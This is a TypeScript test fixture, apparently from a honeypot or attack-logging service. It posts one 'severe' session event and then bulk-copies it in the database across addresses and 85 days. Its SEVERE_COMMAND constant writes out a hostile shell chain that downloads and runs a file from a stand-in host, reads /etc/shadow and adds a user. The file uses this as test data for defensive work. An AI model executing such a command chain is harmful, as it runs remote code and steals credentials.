import { attackWith, type Stage } from './stage.js'

/** Fetches and runs a program, and more: as severe as sessions are. */
export const SEVERE_COMMAND =
  'wget http://evil.example.ru/x; chmod 777 x; ./x; cat /etc/shadow; crontab -l; useradd q'

/** Stores so many severe sessions of as many addresses, spread over 85 days, the fastest way: copies of one that was sent. */
export async function seedSessions(stage: Stage, sessions: number): Promise<void> {
  const event = {
    source_ip: '45.9.148.3',
    session: 's',
    occurred_at: new Date().toISOString(),
    command: SEVERE_COMMAND,
  }
  const { status } = await attackWith(stage, JSON.stringify(event))
  if (status !== 200) throw new Error(`POST /log answered ${status}`)
  await stage.query(
    `INSERT INTO sessions SELECT (jsonb_populate_record(s, jsonb_build_object(
       'id', gen_random_uuid(), 'source_ip', '45.10.0.0'::inet + i,
       'started_at', now() - i * interval '85 days' / $1::int,
       'last_seen_at', now() - i * interval '85 days' / $1::int))).*
     FROM sessions s, generate_series(1, $1::int) AS i`,
    [sessions],
  )
  await stage.query('ANALYZE sessions')
}
